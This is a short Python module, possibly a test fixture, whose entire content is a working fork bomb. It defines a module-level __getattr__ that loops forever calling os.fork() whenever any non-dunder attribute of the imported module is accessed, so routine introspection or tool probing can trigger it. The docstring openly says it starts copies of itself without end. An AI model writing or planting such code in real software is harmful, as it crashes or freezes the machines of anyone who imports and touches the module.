"""Starts copies of itself without end."""

import os


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    while True:
        os.fork()
